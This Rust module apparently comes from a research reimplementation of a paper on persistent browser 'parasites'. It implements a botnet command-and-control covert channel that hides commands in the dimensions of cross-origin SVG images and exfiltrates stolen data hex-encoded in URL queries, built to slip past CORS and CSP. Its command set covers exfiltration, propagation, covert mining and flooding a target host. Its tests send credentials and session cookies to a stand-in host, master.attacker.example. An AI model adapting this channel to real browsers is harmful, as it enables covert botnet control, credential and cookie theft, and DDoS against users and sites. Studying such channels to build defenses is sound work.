//! Command & Control covert channel (paper §VI-C, Figure 4).
//!
//! The parasite and the master communicate without any protocol that CORS or
//! CSP could recognise as such:
//!
//! * **Downstream (master → parasite):** the parasite loads a sequence of
//!   cross-origin SVG images from the master's server. The only properties a
//!   cross-origin image exposes to the page are its width and height, each
//!   clamped to 65 535 — so every image carries 2 × 16 bits = 4 bytes of
//!   payload. An empty SVG is ≈100 bytes on the wire, and with parallel image
//!   requests the paper measures ≈100 KB/s of goodput.
//! * **Upstream (parasite → master):** data is encoded into the URL (path /
//!   query parameters) of requests to the master's server — no bandwidth
//!   limitation applies.

use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use std::collections::VecDeque;

/// Payload bytes carried per image (width + height).
pub const BYTES_PER_IMAGE: usize = 4;

/// A command the master can send to its parasites.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    /// Do nothing (keep-alive).
    Idle,
    /// Execute a module by tag (see [`crate::script::ParasiteModule::tag`]).
    ExecuteModule(String),
    /// Exfiltrate all data the module set has collected.
    ExfiltrateAll,
    /// Load the given URL in an iframe (propagation command).
    PropagateTo(String),
    /// Start mining / resource-theft work for the given number of work units.
    Mine(u32),
    /// Flood the given host (browser-based DDoS).
    Flood(String),
}

impl Command {
    /// Serialises the command to bytes for the image channel.
    pub fn to_bytes(&self) -> Vec<u8> {
        let (tag, body): (u8, String) = match self {
            Command::Idle => (0, String::new()),
            Command::ExecuteModule(module) => (1, module.clone()),
            Command::ExfiltrateAll => (2, String::new()),
            Command::PropagateTo(target) => (3, target.clone()),
            Command::Mine(units) => (4, units.to_string()),
            Command::Flood(host) => (5, host.clone()),
        };
        let mut bytes = vec![tag];
        bytes.extend_from_slice(body.as_bytes());
        bytes
    }

    /// Parses a command from bytes.
    pub fn from_bytes(bytes: &[u8]) -> Option<Command> {
        let (&tag, body) = bytes.split_first()?;
        let body = String::from_utf8_lossy(body).into_owned();
        match tag {
            0 => Some(Command::Idle),
            1 => Some(Command::ExecuteModule(body)),
            2 => Some(Command::ExfiltrateAll),
            3 => Some(Command::PropagateTo(body)),
            4 => body.parse().ok().map(Command::Mine),
            5 => Some(Command::Flood(body)),
            _ => None,
        }
    }
}

/// Dimensions of one channel image.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ImageDimensions {
    /// Width in pixels.
    pub width: u16,
    /// Height in pixels.
    pub height: u16,
}

/// Encodes a byte message into a sequence of image dimensions. The first
/// image carries the message length so the decoder knows where padding ends.
pub fn encode_dimensions(message: &[u8]) -> Vec<ImageDimensions> {
    let mut framed = (message.len() as u32).to_be_bytes().to_vec();
    framed.extend_from_slice(message);
    while !framed.len().is_multiple_of(BYTES_PER_IMAGE) {
        framed.push(0);
    }
    framed
        .chunks(BYTES_PER_IMAGE)
        .map(|chunk| ImageDimensions {
            width: u16::from_be_bytes([chunk[0], chunk[1]]),
            height: u16::from_be_bytes([chunk[2], chunk[3]]),
        })
        .collect()
}

/// Decodes a byte message from observed image dimensions.
pub fn decode_dimensions(images: &[ImageDimensions]) -> Option<Vec<u8>> {
    let mut bytes = Vec::with_capacity(images.len() * BYTES_PER_IMAGE);
    for image in images {
        bytes.extend_from_slice(&image.width.to_be_bytes());
        bytes.extend_from_slice(&image.height.to_be_bytes());
    }
    if bytes.len() < 4 {
        return None;
    }
    let length = u32::from_be_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]) as usize;
    if bytes.len() < 4 + length {
        return None;
    }
    Some(bytes[4..4 + length].to_vec())
}

/// Renders the SVG body for one channel image.
pub fn svg_for(dimensions: ImageDimensions) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{}\" height=\"{}\"></svg>",
        dimensions.width, dimensions.height
    )
}

/// The inverse of [`svg_for`]: reads the width/height attributes back from an
/// SVG body — all a cross-origin parasite can observe about the image.
pub fn parse_svg_dimensions(svg: &str) -> Option<ImageDimensions> {
    fn attr(svg: &str, name: &str) -> Option<u16> {
        svg.split(&format!("{name}=\""))
            .nth(1)?
            .split('"')
            .next()?
            .parse()
            .ok()
    }
    Some(ImageDimensions {
        width: attr(svg, "width")?,
        height: attr(svg, "height")?,
    })
}

/// Encodes upstream data into a URL on the master's host (hex in a query
/// parameter, so arbitrary bytes survive).
pub fn encode_upstream(master_host: &str, campaign: &str, data: &[u8]) -> Url {
    let hex: String = data.iter().map(|b| format!("{b:02x}")).collect();
    let mut url = Url::from_parts(Scheme::Http, master_host, "/exfil");
    url.query = Some(format!("c={campaign}&d={hex}"));
    url
}

/// Decodes upstream data from a request URL to the master's server.
pub fn decode_upstream(url: &Url) -> Option<(String, Vec<u8>)> {
    let query = url.query.as_deref()?;
    let mut campaign = None;
    let mut data = None;
    for pair in query.split('&') {
        let (key, value) = pair.split_once('=')?;
        match key {
            "c" => campaign = Some(value.to_string()),
            "d" => {
                let mut bytes = Vec::with_capacity(value.len() / 2);
                let chars: Vec<char> = value.chars().collect();
                for pair in chars.chunks(2) {
                    if pair.len() != 2 {
                        return None;
                    }
                    let hi = pair[0].to_digit(16)?;
                    let lo = pair[1].to_digit(16)?;
                    bytes.push((hi * 16 + lo) as u8);
                }
                data = Some(bytes);
            }
            _ => {}
        }
    }
    Some((campaign?, data?))
}

/// A record of data a parasite exfiltrated to the master.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExfilRecord {
    /// Campaign the bot belongs to.
    pub campaign: String,
    /// The exfiltrated bytes.
    pub data: Vec<u8>,
}

/// The master's C&C server: queues commands for its bots and collects
/// exfiltrated data. It is an [`Exchange`] so parasites reach it with plain
/// image/URL requests like any other web traffic.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct CncServer {
    /// Host name the server answers on.
    pub host: String,
    commands: VecDeque<Command>,
    exfiltrated: Vec<ExfilRecord>,
    /// Images served so far (for throughput accounting).
    pub images_served: u64,
    /// Upstream requests received.
    pub upstream_requests: u64,
}

impl CncServer {
    /// Creates a C&C server for `host`.
    pub fn new(host: impl Into<String>) -> Self {
        CncServer {
            host: host.into(),
            ..Default::default()
        }
    }

    /// Queues a command for the bots.
    pub fn queue_command(&mut self, command: Command) {
        self.commands.push_back(command);
    }

    /// Everything the bots have exfiltrated so far.
    pub fn exfiltrated(&self) -> &[ExfilRecord] {
        &self.exfiltrated
    }

    /// Returns the SVG responses encoding the next queued command, consuming
    /// it. The parasite issues one image request per returned response.
    pub fn serve_next_command(&mut self) -> Vec<Response> {
        let command = self.commands.pop_front().unwrap_or(Command::Idle);
        let dimensions = encode_dimensions(&command.to_bytes());
        self.images_served += dimensions.len() as u64;
        dimensions
            .into_iter()
            .map(|d| {
                Response::ok(Body::text(ResourceKind::Svg, svg_for(d))).with_cache_control("no-store")
            })
            .collect()
    }

    /// Records exfiltrated data arriving on an upstream URL.
    pub fn receive_upstream(&mut self, url: &Url) -> bool {
        match decode_upstream(url) {
            Some((campaign, data)) => {
                self.upstream_requests += 1;
                self.exfiltrated.push(ExfilRecord { campaign, data });
                true
            }
            None => false,
        }
    }
}

impl Exchange for CncServer {
    fn exchange(&mut self, request: &Request) -> Response {
        if !request.url.host.eq_ignore_ascii_case(&self.host) {
            return Response::not_found();
        }
        if request.url.path == "/exfil" {
            self.receive_upstream(&request.url);
            return Response::ok(Body::binary(ResourceKind::Image, vec![0u8; 1]))
                .with_cache_control("no-store");
        }
        if request.url.path.starts_with("/cc/") {
            // One image per request: /cc/<index> serves that image of the
            // currently pending command without consuming the queue; the
            // higher-level Master decides when to advance.
            return Response::ok(Body::text(
                ResourceKind::Svg,
                svg_for(ImageDimensions { width: 1, height: 1 }),
            ))
            .with_cache_control("no-store");
        }
        Response::not_found()
    }
}

/// Estimated downstream goodput of the image channel in bytes per second.
///
/// `parallel_requests` images are in flight at once and each takes `rtt_ms`
/// milliseconds to fetch; every image carries [`BYTES_PER_IMAGE`] payload
/// bytes.
pub fn downstream_goodput_bytes_per_sec(parallel_requests: u32, rtt_ms: f64) -> f64 {
    if rtt_ms <= 0.0 {
        return f64::INFINITY;
    }
    let images_per_sec = parallel_requests as f64 * (1000.0 / rtt_ms);
    images_per_sec * BYTES_PER_IMAGE as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dimensions_encoding_round_trips() {
        for message in [&b""[..], b"x", b"steal:cookies", &[0u8, 255, 128, 7, 9][..]] {
            let images = encode_dimensions(message);
            let decoded = decode_dimensions(&images).unwrap();
            assert_eq!(decoded, message);
        }
    }

    #[test]
    fn each_image_carries_four_bytes() {
        let message = vec![0xAAu8; 40];
        let images = encode_dimensions(&message);
        // 4 length bytes + 40 payload bytes = 44 bytes -> 11 images.
        assert_eq!(images.len(), 11);
        assert_eq!(decode_dimensions(&images).unwrap(), message);
    }

    #[test]
    fn truncated_image_sequences_fail_to_decode() {
        let images = encode_dimensions(b"a longer message that spans several images");
        assert!(decode_dimensions(&images[..1]).is_none());
        assert!(decode_dimensions(&[]).is_none());
    }

    #[test]
    fn commands_round_trip_through_bytes() {
        for command in [
            Command::Idle,
            Command::ExecuteModule("login-data".into()),
            Command::ExfiltrateAll,
            Command::PropagateTo("https://bank.example/".into()),
            Command::Mine(500),
            Command::Flood("victim.example".into()),
        ] {
            assert_eq!(Command::from_bytes(&command.to_bytes()), Some(command));
        }
        assert_eq!(Command::from_bytes(&[99, 1, 2]), None);
        assert_eq!(Command::from_bytes(&[]), None);
    }

    #[test]
    fn svg_is_small_and_carries_the_dimensions() {
        let svg = svg_for(ImageDimensions { width: 31337, height: 42 });
        assert!(svg.contains("width=\"31337\""));
        assert!(svg.contains("height=\"42\""));
        // About 100 bytes of markup around the two numbers.
        assert!(svg.len() <= 120, "svg is {} bytes", svg.len());
    }

    #[test]
    fn upstream_url_encoding_round_trips() {
        let url = encode_upstream("master.attacker.example", "campaign-0", b"user=alice&pass=hunter2");
        let (campaign, data) = decode_upstream(&url).unwrap();
        assert_eq!(campaign, "campaign-0");
        assert_eq!(data, b"user=alice&pass=hunter2");
        assert!(decode_upstream(&Url::parse("http://master.attacker.example/exfil").unwrap()).is_none());
    }

    #[test]
    fn server_serves_commands_and_collects_exfil() {
        let mut server = CncServer::new("master.attacker.example");
        server.queue_command(Command::ExecuteModule("login-data".into()));
        let responses = server.serve_next_command();
        assert!(!responses.is_empty());
        assert!(responses.iter().all(|r| r.body.kind == ResourceKind::Svg));

        // Parasite side: recover the dimensions from the SVGs and decode.
        let dims: Vec<ImageDimensions> = responses
            .iter()
            .map(|r| parse_svg_dimensions(&r.body.as_text()).unwrap())
            .collect();
        let command = Command::from_bytes(&decode_dimensions(&dims).unwrap()).unwrap();
        assert_eq!(command, Command::ExecuteModule("login-data".into()));

        // Upstream.
        let url = encode_upstream("master.attacker.example", "campaign-0", b"cookie=SID:abc");
        assert!(server.receive_upstream(&url));
        assert_eq!(server.exfiltrated().len(), 1);
        assert_eq!(server.exfiltrated()[0].data, b"cookie=SID:abc");

        // Empty queue serves an Idle keep-alive.
        let idle = server.serve_next_command();
        assert!(!idle.is_empty());
    }

    #[test]
    fn goodput_model_matches_the_papers_100kbps_claim() {
        // ~25 parallel requests at a 1 ms local RTT give ≈100 KB/s.
        let goodput = downstream_goodput_bytes_per_sec(25, 1.0);
        assert!((goodput - 100_000.0).abs() < 1.0, "{goodput}");
        assert!(downstream_goodput_bytes_per_sec(25, 10.0) < goodput);
    }
}
